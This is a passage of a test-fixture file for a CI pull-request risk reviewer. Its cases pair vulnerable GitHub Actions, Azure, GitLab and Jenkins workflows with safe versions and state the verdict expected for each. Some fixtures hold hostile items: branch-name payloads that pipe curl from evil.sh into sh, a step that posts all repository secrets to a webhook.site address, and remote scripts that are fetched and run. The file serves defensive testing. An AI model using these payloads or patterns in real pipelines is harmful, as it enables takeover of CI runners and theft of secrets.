      "Modeled on test-matrix reorganisations replayed from HTTP client and web framework histories: a maintainer drops a step run twice, folds two test commands into one, and starts the test servers in a step of their own exactly as another job of the workflow already does (no new action, program, trigger, permission or secret); the workflow rules pass it and CI is green. The file is still named, the level is low (trusted-routine).",
    fixture: ciPr(2005, {
      title: 'ci: start the test servers before phpunit',
      files: [
        {
          path: '.github/workflows/tests.yml',
          base: lines('name: tests', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  linux:', '    runs-on: ubuntu-24.04', '    steps:', `      - uses: ${CHECKOUT}`, `      - uses: ${CHECKOUT}`, '      - run: composer install --no-interaction', '      - run: make test', '      - run: make test-integration', '  windows:', '    runs-on: windows-2022', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: composer install --no-interaction', '      - name: Start test servers', '        shell: bash', '        run: |', '          node tests/server.js &', '          php -S 127.0.0.1:8126 -t tests/fixtures &', '      - run: vendor/bin/phpunit'),
          head: lines('name: tests', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  linux:', '    runs-on: ubuntu-24.04', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: composer install --no-interaction', '      - name: Start test servers', '        shell: bash', '        run: |', '          node tests/server.js &', '          php -S 127.0.0.1:8126 -t tests/fixtures &', '      - run: vendor/bin/phpunit --testsuite unit,integration', '  windows:', '    runs-on: windows-2022', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: composer install --no-interaction', '      - name: Start test servers', '        shell: bash', '        run: |', '          node tests/server.js &', '          php -S 127.0.0.1:8126 -t tests/fixtures &', '      - run: vendor/bin/phpunit'),
        },
      ],
    }),
    expect: { level: 'low', action: 'approve', noFindings: true, drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-maintainer-drops-harden-runner-not-routine',
    description: "The same kind of clean-up that also removes the job's egress hardening step: a guard dropped is not an edit of the job's commands, and stays medium.",
    fixture: ciPr(2006, {
      title: 'ci: simplify the test job',
      files: [
        {
          path: '.github/workflows/tests.yml',
          base: lines('name: tests', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  linux:', '    runs-on: ubuntu-24.04', '    steps:', '      - uses: step-security/harden-runner@ec9f2d5744a09debf3a187a3f4f675c53b671911 # v2.13.0', '        with:', '          egress-policy: block', `      - uses: ${CHECKOUT}`, '      - run: composer install --no-interaction', '      - run: make test', '      - run: make test-integration'),
          head: lines('name: tests', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  linux:', '    runs-on: ubuntu-24.04', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: composer install --no-interaction', '      - run: vendor/bin/phpunit --testsuite unit,integration'),
        },
      ],
    }),
    expect: { level: 'medium', action: 'comment', noFindings: true, drivers: ['sensitive-paths'] },
  },
  {
    id: 'ci-bot-opens-pr-with-contents-write',
    description:
      "Modeled on a PHP HTTP client's branch-alias workflow: on a new tag, a maintainer's workflow bumps the branch alias in composer.json and opens a pull request with peter-evans/create-pull-request (pinned), whose job is granted contents: write (to push the PR's branch) and pull-requests: write. Both scopes are what the action needs: no gha-excessive-permissions; a new workflow is still a change of what runs (medium).",
    fixture: ciPr(2007, {
      title: 'ci: update the branch alias after a release',
      files: [
        {
          path: '.github/workflows/branch-alias.yml',
          head: lines('name: Update branch alias', 'on:', '  push:', "    tags: ['*']", 'permissions: {}', 'jobs:', '  branch-alias:', '    runs-on: ubuntu-24.04', '    permissions:', '      contents: write', '      pull-requests: write', '    steps:', `      - uses: ${CHECKOUT}`, '        with:', '          ref: main', '          persist-credentials: false', '      - run: composer config extra.branch-alias.dev-main "${GITHUB_REF_NAME%.*}.x-dev"', '      - uses: peter-evans/create-pull-request@271a8d0340265f705b14b6d32b9829c1cb33d45e # v7.0.8', '        with:', '          branch: branch-alias-update', '          title: Update branch alias'),
        },
      ],
    }),
    expect: { level: 'medium', action: 'comment', absentDrivers: ['finding:gha-excessive-permissions'] },
  },
  {
    id: 'ci-newcomer-edits-job-command',
    description: "The same edit of a job's command from a new account's first PR: an outsider changing what CI runs stays medium.",
    fixture: ciPr(1996, {
      title: 'ci: run the tests in band',
      author: NEWCOMER,
      files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow().replace('      - run: npm test', '      - run: npm test -- --runInBand') }],
    }),
    expect: { level: 'medium', action: ['comment', 'needs_discussion'], noFindings: true, drivers: ['sensitive-paths', 'author-trust'] },
  },
  {
    id: 'ci-pr-title-injection-pr-target',
    description:
      'Modeled on the 2025 nx "s1ngularity" write-ups: a new pull_request_target workflow validates PR titles by expanding ${{ github.event.pull_request.title }} into a shell, with a write token.',
    fixture: ciPr(1953, {
      title: 'ci: validate PR titles for forks too',
      files: [
        {
          path: '.github/workflows/pr-title.yml',
          head: lines(
            'name: PR title',
            'on:',
            '  pull_request_target:',
            '    types: [opened, edited, synchronize]',
            'permissions:',
            '  pull-requests: write',
            'jobs:',
            '  check:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - name: Check the title',
            '        run: |',
            '          echo "Checking: ${{ github.event.pull_request.title }}"',
            "          echo \"${{ github.event.pull_request.title }}\" | grep -Eq '^(feat|fix|docs|chore)(\\(.+\\))?: '",
          ),
        },
      ],
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection', 'gha-dangerous-trigger'], drivers: ['finding:gha-template-injection'] },
  },
  {
    id: 'ci-branch-name-injection',
    description:
      'Modeled on the December 2024 ultralytics compromise: a fork PR edits the existing pull_request_target format job to echo ${{ github.head_ref }} (a branch name can hold $(curl …|bash)).',
    fixture: ciPr(1954, {
      title: 'ci: show branch in format job logs',
      author: NEWCOMER,
      fork: true,
      files: [
        {
          path: '.github/workflows/format.yml',
          base: lines('name: Format', 'on:', '  pull_request_target:', 'permissions:', '  contents: read', 'jobs:', '  format:', '    runs-on: ubuntu-latest', '    steps:', `      - uses: ${CHECKOUT}`, '      - run: npx prettier --check .'),
          head: lines(
            'name: Format',
            'on:',
            '  pull_request_target:',
            'permissions:',
            '  contents: read',
            'jobs:',
            '  format:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '      - run: |',
            '          echo "Formatting ${{ github.head_ref }}"',
            '          npx prettier --check .',
          ),
        },
      ],
      checkRuns: [{ name: 'format' }],
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection'], drivers: ['finding:gha-template-injection', 'author-trust'] },
  },
  {
    id: 'ci-workflow-run-branch-through-env-expression',
    description:
      'The ultralytics injection (December 2024) written the way a reviewer skims past: a maintainer\'s new workflow_run report job binds the triggering run\'s head branch in env: (the documented fix) and then pastes it back with ${{ env.BRANCH }} into its run: script (which only writes a summary), where a fork\'s branch name such as `x";curl${IFS}-sSfL${IFS}evil.sh|sh;#` runs with the repository\'s secrets.',
    fixture: ciPr(2541, {
      title: 'ci: post coverage report after CI',
      files: [
        {
          path: '.github/workflows/coverage-report.yml',
          head: lines(
            'name: Coverage report',
            'on:',
            '  workflow_run:',
            '    workflows: [CI]',
            '    types: [completed]',
            'permissions: {}',
            'jobs:',
            '  report:',
            '    runs-on: ubuntu-latest',
            '    env:',
            '      BRANCH: ${{ github.event.workflow_run.head_branch }}',
            '    steps:',
            '      - run: |',
            '          echo "Coverage for ${{ env.BRANCH }}"',
            '          echo "Run ${{ github.event.workflow_run.id }} finished: ${{ github.event.workflow_run.conclusion }}" >> "$GITHUB_STEP_SUMMARY"',
          ),
        },
      ],
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection'], drivers: ['finding:gha-template-injection'] },
  },
  {
    id: 'ci-workflow-run-env-read-as-shell-variable',
    description:
      "The same report job written as GitHub's hardening guide says: the branch bound in env: and read as \"$BRANCH\" by the shell; the run id and SHA, which no outsider writes, expanded with ${{ env.* }}; no permissions.",
    fixture: ciPr(2542, {
      title: 'ci: post coverage report after CI',
      files: [
        {
          path: '.github/workflows/coverage-report.yml',
          head: lines(
            'name: Coverage report',
            'on:',
            '  workflow_run:',
            '    workflows: [CI]',
            '    types: [completed]',
            'permissions: {}',
            'jobs:',
            '  report:',
            '    runs-on: ubuntu-latest',
            '    env:',
            '      BRANCH: ${{ github.event.workflow_run.head_branch }}',
            '      RUN_ID: ${{ github.event.workflow_run.id }}',
            '      SHA: ${{ github.event.workflow_run.head_sha }}',
            '    steps:',
            '      - run: |',
            '          echo "Coverage for $BRANCH at ${{ env.SHA }}"',
            '          echo "Run ${{ env.RUN_ID }} finished: ${{ github.event.workflow_run.conclusion }}" >> "$GITHUB_STEP_SUMMARY"',
          ),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:gha-template-injection'] },
  },
  {
    id: 'ci-pr-target-title-through-step-output',
    description:
      'Template injection one step removed, as in write-ups of pull_request_target labeling bots: a new workflow reads the PR title with `gh pr view --json title -q .title` into a step output (no ${{ github.event.pull_request.title }} anywhere) and a later step pastes ${{ steps.meta.outputs.title }} into its run: script; a fork PR titled `x"; curl -sSfL evil.sh | sh; #` runs with the repository\'s secrets and a write token.',
    fixture: ciPr(3071, {
      title: 'ci: label PRs by conventional-commit type',
      files: [
        {
          path: '.github/workflows/pr-type-label.yml',
          head: lines(
            'name: PR type label',
            'on:',
            '  pull_request_target:',
            '    types: [opened, edited, synchronize]',
            'permissions:',
            '  pull-requests: write',
            'jobs:',
            '  label:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - id: meta',
            '        env:',
            '          GH_TOKEN: ${{ github.token }}',
            '          PR: ${{ github.event.pull_request.number }}',
            '        run: |',
            '          echo "title=$(gh pr view "$PR" --repo "$GITHUB_REPOSITORY" --json title -q .title)" >> "$GITHUB_OUTPUT"',
            '      - env:',
            '          GH_TOKEN: ${{ github.token }}',
            '          PR: ${{ github.event.pull_request.number }}',
            '        run: |',
            '          type="$(echo "${{ steps.meta.outputs.title }}" | sed -E \'s/^([a-z]+).*/\\1/\')"',
            '          gh pr edit "$PR" --repo "$GITHUB_REPOSITORY" --add-label "type: $type"',
          ),
        },
      ],
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection'], drivers: ['finding:gha-template-injection'] },
  },
  {
    id: 'ci-pr-target-step-output-read-as-env',
    description:
      "The same labeling workflow written safely: the title read with gh into a step output and handed to the next step through env: and read as \"$TITLE\"; the PR number and head SHA, which no outsider writes, written to outputs and expanded with ${{ }}.",
    fixture: ciPr(3072, {
      title: 'ci: label PRs by conventional-commit type',
      files: [
        {
          path: '.github/workflows/pr-type-label.yml',
          head: lines(
            'name: PR type label',
            'on:',
            '  pull_request_target:',
            '    types: [opened, edited, synchronize]',
            'permissions:',
            '  pull-requests: write',
            'jobs:',
            '  label:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - id: meta',
            '        env:',
            '          GH_TOKEN: ${{ github.token }}',
            '          PR: ${{ github.event.pull_request.number }}',
            '        run: |',
            '          echo "title=$(gh pr view "$PR" --repo "$GITHUB_REPOSITORY" --json title -q .title)" >> "$GITHUB_OUTPUT"',
            '          echo "sha=$(jq -r .pull_request.head.sha "$GITHUB_EVENT_PATH")" >> "$GITHUB_OUTPUT"',
            '          echo "number=$PR" >> "$GITHUB_OUTPUT"',
            '      - env:',
            '          GH_TOKEN: ${{ github.token }}',
            '          TITLE: ${{ steps.meta.outputs.title }}',
            '        run: |',
            '          type="$(printf \'%s\' "$TITLE" | sed -E \'s/^([a-z]+).*/\\1/\')"',
            '          echo "Labeling ${{ steps.meta.outputs.number }} at ${{ steps.meta.outputs.sha }}"',
            '          gh pr edit "${{ steps.meta.outputs.number }}" --repo "$GITHUB_REPOSITORY" --add-label "type: $type"',
          ),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:gha-template-injection'] },
  },
  {
    id: 'ci-azure-pr-branch-macro-in-script',
    description:
      'Template injection outside GitHub Actions, the shape of the ultralytics branch-name payload: a new Azure Pipelines step for pull-request builds pastes the macro $(System.PullRequest.SourceBranch) into its bash script, which Azure replaces before bash reads it; a fork branch named `x";curl${IFS}-sSfL${IFS}evil.sh|sh;#` runs in the build.',
    fixture: ciPr(3073, {
      title: 'ci: tag preview images with the PR branch',
      files: [
        {
          path: 'azure-pipelines.yml',
          head: lines(
            'trigger:',
            '  branches:',
            '    include: [main]',
            'pr:',
            '  branches:',
            '    include: [main]',
            'pool:',
            '  vmImage: ubuntu-latest',
            'steps:',
            '- checkout: self',
            '- bash: |',
            '    set -euo pipefail',
            '    TAG="pr-$(System.PullRequest.SourceBranch)"',
            '    docker build -t "app:${TAG//\\//-}" .',
            '  displayName: Build preview image',
          ),
        },
      ],
    }),
    expect: { level: 'high', action: 'request_changes', findings: ['ci-template-injection'], drivers: ['finding:ci-template-injection'] },
  },
  {
    id: 'ci-azure-pr-branch-through-env',
    description:
      "The same Azure Pipelines step written as Microsoft's guidance says: the PR branch mapped into the step's env: and read by bash as \"$SOURCE_BRANCH\"; the macro appears only in env: and displayName, where nothing runs it.",
    fixture: ciPr(3074, {
      title: 'ci: tag preview images with the PR branch',
      files: [
        {
          path: 'azure-pipelines.yml',
          head: lines(
            'trigger:',
            '  branches:',
            '    include: [main]',
            'pr:',
            '  branches:',
            '    include: [main]',
            'pool:',
            '  vmImage: ubuntu-latest',
            'steps:',
            '- checkout: self',
            '- bash: |',
            '    set -euo pipefail',
            '    TAG="pr-${SOURCE_BRANCH//[^a-zA-Z0-9._-]/-}"',
            '    docker build -t "app:$TAG" .',
            '  displayName: Build preview image for $(System.PullRequest.SourceBranch)',
            '  env:',
            '    SOURCE_BRANCH: $(System.PullRequest.SourceBranch)',
          ),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:ci-template-injection'] },
  },
  {
    id: 'ci-gitlab-commit-message-eval',
    description:
      'A GitLab CI job that reads a `[ci run: …]` directive out of the commit message and evaluates it: eval "$CI_COMMIT_MESSAGE"-derived text runs whatever the commit message of a merge request says.',
    fixture: ciPr(3075, {
      title: 'ci: allow extra commands from commit message',
      files: [
        {
          path: '.gitlab-ci.yml',
          head: lines(
            'stages: [test]',
            'test:',
            '  stage: test',
            '  image: node:20',
            '  script:',
            '    - npm ci',
            '    - npm test',
            '    - eval "$(echo $CI_COMMIT_MESSAGE | sed -n \'s/.*\\[ci run: \\(.*\\)\\].*/\\1/p\')"',
          ),
        },
      ],
    }),
    expect: { level: 'high', action: 'request_changes', findings: ['ci-template-injection'], drivers: ['finding:ci-template-injection'] },
  },
  {
    id: 'ci-gitlab-commit-message-as-data',
    description: 'A GitLab CI job that only prints the commit message and the branch, quoted, for the log, and checks the message for [skip e2e]: the shell reads the variables as data.',
    fixture: ciPr(3076, {
      title: 'ci: log commit info',
      files: [
        {
          path: '.gitlab-ci.yml',
          head: lines(
            'stages: [test]',
            'test:',
            '  stage: test',
            '  image: node:20',
            '  script:',
            '    - echo "Testing $CI_COMMIT_BRANCH: $CI_COMMIT_TITLE"',
            '    - npm ci',
            '    - if [[ "$CI_COMMIT_MESSAGE" != *"[skip e2e]"* ]]; then npm run e2e; fi',
          ),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:ci-template-injection'] },
  },
  {
    id: 'ci-jenkins-change-title-groovy-interpolation',
    description:
      "Jenkins' own pipeline guidance (\"String interpolation\": injection via interpolation) and the poisoned-pipeline-execution write-ups: a Jenkinsfile stage that comments on the pull request puts ${env.CHANGE_TITLE} and ${env.CHANGE_BRANCH} inside a double-quoted sh string, so Groovy pastes the PR's title and branch name into the shell command before it runs; a title with a quote and $(…) runs on the build agent.",
    fixture: ciPr(7421, {
      title: 'ci: announce PR builds in the build log and on the PR',
      files: [
        {
          path: 'Jenkinsfile',
          base: lines('pipeline {', '  agent any', '  stages {', "    stage('Test') {", '      steps {', "        sh 'npm ci'", "        sh 'npm test'", '      }', '    }', '  }', '}'),
          head: lines(
            'pipeline {',
            '  agent any',
            '  stages {',
            "    stage('Test') {",
            '      steps {',
            "        sh 'npm ci'",
            "        sh 'npm test'",
            '      }',
            '    }',
            "    stage('Announce') {",
            '      when { changeRequest() }',
            '      steps {',
            '        sh "./ci/pr-comment.sh \'Build of ${env.CHANGE_TITLE} (${env.CHANGE_BRANCH}) passed\'"',
            '      }',
            '    }',
            '  }',
            '}',
          ),
        },
      ],
    }),
    expect: { level: 'high', action: 'request_changes', findings: ['ci-template-injection'], drivers: ['finding:ci-template-injection'] },
  },
  {
    id: 'ci-jenkins-change-title-single-quoted',
    description:
      'The same Jenkinsfile stage written as Jenkins recommends: a single-quoted sh string, so the shell reads $CHANGE_TITLE and $CHANGE_BRANCH as quoted data, and the Groovy echo step logs the title (no shell).',
    fixture: ciPr(7422, {
      title: 'ci: announce PR builds in the build log and on the PR',
      files: [
        {
          path: 'Jenkinsfile',
          base: lines('pipeline {', '  agent any', '  stages {', "    stage('Test') {", '      steps {', "        sh 'npm ci'", "        sh 'npm test'", '      }', '    }', '  }', '}'),
          head: lines(
            'pipeline {',
            '  agent any',
            '  stages {',
            "    stage('Test') {",
            '      steps {',
            "        sh 'npm ci'",
            "        sh 'npm test'",
            '      }',
            '    }',
            "    stage('Announce') {",
            '      when { changeRequest() }',
            '      steps {',
            '        echo "Announcing ${env.CHANGE_TITLE}"',
            '        sh \'./ci/pr-comment.sh "Build of $CHANGE_TITLE ($CHANGE_BRANCH) passed"\'',
            '      }',
            '    }',
            '  }',
            '}',
          ),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:ci-template-injection'] },
  },
  {
    id: 'ci-pr-title-through-file-into-step-output',
    description:
      "GitHub Security Lab's \"Keeping your GitHub Actions and workflows secure: untrusted input\" and the ultralytics write-ups: a PR-title linter on pull_request_target saves the title to a file through env: (the safe form), reads the file back into a step output, and then pastes ${{ steps.title.outputs.value }} into a run: script, so the title becomes shell code with the base repository's token.",
    fixture: ciPr(7423, {
      title: 'ci: lint PR titles against the changelog rules',
      files: [
        {
          path: '.github/workflows/pr-title.yml',
          head: lines(
            'name: PR title',
            'on:',
            '  pull_request_target:',
            '    types: [opened, edited, synchronize]',
            'permissions:',
            '  contents: read',
            '  pull-requests: write',
            'jobs:',
            '  lint:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - name: Save title',
            '        env:',
            '          TITLE: ${{ github.event.pull_request.title }}',
            "        run: printf '%s' \"$TITLE\" > pr_title.txt",
            '      - id: title',
            '        run: echo "value=$(cat pr_title.txt)" >> "$GITHUB_OUTPUT"',
            '      - name: Check prefix',
            '        run: |',
            '          case "${{ steps.title.outputs.value }}" in',
            '            feat:*|fix:*|docs:*|chore:*) echo ok ;;',
            '            *) echo "::error::bad title"; exit 1 ;;',
            '          esac',
          ),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-template-injection'], drivers: ['finding:gha-template-injection'] },
  },
  {
    id: 'ci-pr-title-through-file-read-as-env',
    description:
      'The same PR-title linter done right: the output read back from the file is passed to the check through env: and read as "$TITLE", never pasted with ${{ }}; and a version read from package.json into a file and an output is pasted (a value the workflow computes).',
    fixture: ciPr(7424, {
      title: 'ci: lint PR titles against the changelog rules',
      files: [
        {
          path: '.github/workflows/pr-title.yml',
          head: lines(
            'name: PR title',
            'on:',
            '  pull_request:',
            '    types: [opened, edited, synchronize]',
            'permissions:',
            '  contents: read',
            'jobs:',
            '  lint:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '      - name: Save title',
            '        env:',
            '          TITLE: ${{ github.event.pull_request.title }}',
            '        run: |',
            "          printf '%s' \"$TITLE\" > pr_title.txt",
            '          jq -r .version package.json > version.txt',
            '      - id: meta',
            '        run: |',
            '          echo "value=$(cat pr_title.txt)" >> "$GITHUB_OUTPUT"',
            '          echo "version=$(cat version.txt)" >> "$GITHUB_OUTPUT"',
            '      - name: Check prefix',
            '        env:',
            '          TITLE: ${{ steps.meta.outputs.value }}',
            '        run: |',
            '          echo "Checking title for ${{ steps.meta.outputs.version }}"',
            '          case "$TITLE" in',
            '            feat:*|fix:*|docs:*|chore:*) echo ok ;;',
            '            *) echo "::error::bad title"; exit 1 ;;',
            '          esac',
          ),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:gha-template-injection'] },
  },
  {
    id: 'ci-downloaded-env-heredoc-on-pr-target',
    description:
      "GitHub's \"Security hardening for GitHub Actions\" (environment files) and zizmor's github-env audit: a pull_request_target labeler job fetches a shared CI settings file from a third-party host and writes it into GITHUB_ENV through a shell heredoc (`cat <<EOF >> \"$GITHUB_ENV\"` with `$(curl …)` in its body), and runs a downloaded bootstrap script whose output goes to GITHUB_PATH; whoever answers those requests chooses LD_PRELOAD, NODE_OPTIONS or PATH entries for the later steps, which hold the repository's token.",
    fixture: ciPr(7425, {
      title: 'ci: share the org-wide CI settings with the labeler',
      files: [
        {
          path: '.github/workflows/labeler.yml',
          head: lines(
            'name: Labeler',
            'on:',
            '  pull_request_target:',
            '    types: [opened, synchronize]',
            'permissions:',
            '  contents: read',
            '  pull-requests: write',
            'jobs:',
            '  label:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - name: Load shared CI settings',
            '        run: |',
            '          cat <<EOF >> "$GITHUB_ENV"',
            '          LABELER_MODE=strict',
            '          $(curl -fsSL https://ci-settings.example-tools.dev/shared.env)',
            '          EOF',
            '          wget -qO bootstrap.sh https://ci-settings.example-tools.dev/bootstrap.sh',
            '          sh ./bootstrap.sh | tee -a "$GITHUB_PATH"',
            '      - uses: actions/labeler@8558fd74291d67161a8a78ce36a881fa63b766a9 # v5.0.0',
          ),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-github-env'], drivers: ['finding:gha-github-env'] },
  },
  {
    id: 'ci-env-heredoc-of-fixed-settings',
    description:
      "The ordinary look-alike: a maintainer's CI job writes fixed settings and a version read with jq into GITHUB_ENV through a heredoc, and a tarball downloaded for a tool adds its bin folder to GITHUB_PATH (the path is the job's own text, not the answer).",
    fixture: ciPr(7426, {
      title: 'ci: set build settings in one block',
      files: [
        {
          path: '.github/workflows/build.yml',
          head: lines(
            'name: Build',
            'on:',
            '  push:',
            '    branches: [main]',
            '  pull_request:',
            'permissions:',
            '  contents: read',
            'jobs:',
            '  build:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            `      - uses: ${CHECKOUT}`,
            '      - name: Settings',
            '        run: |',
            '          VERSION=$(jq -r .version package.json)',
            '          cat <<EOF >> "$GITHUB_ENV"',
            '          APP_VERSION=$VERSION',
            '          NODE_ENV=production',
            '          EOF',
            '          curl -fsSLo tool.tgz https://example-tools.dev/tool-1.4.2.tgz',
            '          tar xzf tool.tgz -C "$HOME"',
            '          echo "$HOME/tool/bin" >> "$GITHUB_PATH"',
            '      - run: npm ci && npm run build',
          ),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:gha-github-env'] },
  },
  {
    id: 'ci-issue-comment-github-script',
    description: 'A new /deploy command bot on issue_comment pastes toJSON(github.event.comment) into actions/github-script code.',
    fixture: ciPr(1955, {
      title: 'ci: /deploy preview command',
      files: [
        {
          path: '.github/workflows/commands.yml',
          head: lines(
            'name: Commands',
            'on:',
            '  issue_comment:',
            '    types: [created]',
            'permissions:',
            '  contents: read',
            'jobs:',
            '  command:',
            "    if: startsWith(github.event.comment.body, '/deploy')",
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1',
            '        with:',
            '          script: |',
            '            const comment = ${{ toJSON(github.event.comment) }};',
            "            core.info(`deploy requested by ${comment.user.login}`);",
          ),
        },
      ],
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-template-injection', 'gha-dangerous-trigger'] },
  },
  {
    id: 'ci-github-script-payload-exec',
    description: 'A fork PR adds a pull_request_target github-script that reads the PR branch name from context.payload and builds an execSync command from it: no ${{ }}, still a shell injection.',
    fixture: ciPr(2209, {
      title: 'ci: post recent commits on PR previews',
      author: NEWCOMER,
      fork: true,
      files: [
        {
          path: '.github/workflows/preview.yml',
          head: lines(
            'name: Preview',
            'on:',
            '  pull_request_target:',
            'permissions:',
            '  contents: read',
            '  pull-requests: write',
            'jobs:',
            '  preview:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1',
            '        with:',
            '          script: |',
            "            const { execSync } = require('child_process');",
            '            const pr = context.payload.pull_request;',
            '            const branch = pr.head.ref;',
            '            const log = execSync(`git log --oneline -5 origin/${branch}`, { encoding: \'utf8\' });',
            '            await github.rest.issues.createComment({ ...context.repo, issue_number: pr.number, body: log });',
          ),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-template-injection', 'gha-dangerous-trigger'], drivers: ['finding:gha-template-injection'] },
  },
  {
    id: 'ci-github-script-comment-option-injection',
    description: 'An issue_comment /sync bot whose github-script gives the comment text to git fetch as an argument of its own (no shell, but `--upload-pack=…` is an option that runs a command) and runs the PR title through a promisified child_process exec.',
    fixture: ciPr(7301, {
      title: 'ci: add a /sync comment command',
      author: NEWCOMER,
      fork: true,
      files: [
        {
          path: '.github/workflows/sync.yml',
          head: lines(
            'name: Sync',
            'on:',
            '  issue_comment:',
            '    types: [created]',
            'permissions:',
            '  contents: write',
            'jobs:',
            '  sync:',
            "    if: startsWith(github.event.comment.body, '/sync ')",
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1',
            '      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1',
            '        with:',
            '          script: |',
            "            const { execFileSync } = require('child_process');",
            "            const run = require('util').promisify(require('child_process').exec);",
            "            const ref = context.payload.comment.body.slice('/sync '.length).trim();",
            "            execFileSync('git', ['fetch', 'origin', ref]);",
            '            await run(`git log -1 --format=%s FETCH_HEAD > "${context.payload.issue.title}.txt"`);',
          ),
        },
      ],
    }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-template-injection'], drivers: ['finding:gha-template-injection'] },
  },
  {
    id: 'ci-github-script-comment-args-safe',
    description: 'An issue_comment bot that passes the comment text to git only after `--` and as the value of --grep, without a shell: neither can become an option.',
    fixture: ciPr(7302, {
      title: 'ci: add a /find comment command',
      author: MEMBER,
      files: [
        {
          path: '.github/workflows/find.yml',
          head: lines(
            'name: Find',
            'on:',
            '  issue_comment:',
            '    types: [created]',
            'permissions:',
            '  contents: read',
            '  issues: write',
            'jobs:',
            '  find:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1',
            '      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1',
            '        with:',
            '          script: |',
            "            const { execFileSync } = require('child_process');",
            "            const words = context.payload.comment.body.replace(/^\\/find\\s+/, '');",
            "            const hits = execFileSync('git', ['log', '--oneline', '--grep', words], { encoding: 'utf8' });",
            "            const files = execFileSync('git', ['ls-files', '--', words], { encoding: 'utf8' });",
            '            await github.rest.issues.createComment({ ...context.repo, issue_number: context.payload.issue.number, body: hits + files });',
          ),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-template-injection'] },
  },
  {
    id: 'ci-github-script-payload-comment',
    description: 'A pull_request_target github-script that only quotes the PR title in a comment it posts through the API: the text never reaches a shell.',
    fixture: ciPr(2210, {
      title: 'ci: greet PR previews',
      author: MEMBER,
      files: [
        {
          path: '.github/workflows/preview.yml',
          head: lines(
            'name: Preview',
            'on:',
            '  pull_request_target:',
            'permissions:',
            '  contents: read',
            '  pull-requests: write',
            'jobs:',
            '  preview:',
            '    runs-on: ubuntu-latest',
            '    steps:',
            '      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1',
            '        with:',
            '          script: |',
            '            const pr = context.payload.pull_request;',
            '            const title = pr.title;',
            '            const body = `Preview for "${title}" (#${pr.number}) is being built.`;',
            '            await github.rest.issues.createComment({ ...context.repo, issue_number: pr.number, body });',
          ),
        },
      ],
    }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['gha-dangerous-trigger'], absentDrivers: ['finding:gha-template-injection'] },
  },
  {
    id: 'ci-secrets-exfiltration-webhook',
    description:
      'Modeled on the September 2025 "GhostAction" campaign: a PR adds a "security scan" step that posts toJSON(secrets) to a webhook.site address.',
    fixture: ciPr(1956, {
      title: 'ci: add security scan',
      author: NEWCOMER,
      fork: true,
      files: [
        {
          path: '.github/workflows/ci.yml',
          base: ciWorkflow(),
          head: ciWorkflow({
            extraStep: [
              '      - name: Security scan',
              '        run: curl -s -X POST -d "$SCAN_CONFIG" https://webhook.site/6e7c1a52-41de-4c3b-9d0e-1f4a2b3c4d5e',
              '        env:',
              '          SCAN_CONFIG: ${{ toJSON(secrets) }}',
            ],
          }),
        },
      ],
      checkRuns: nodeCi(),
    }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration', 'gha-overprovisioned-secrets'] },
  },
  {
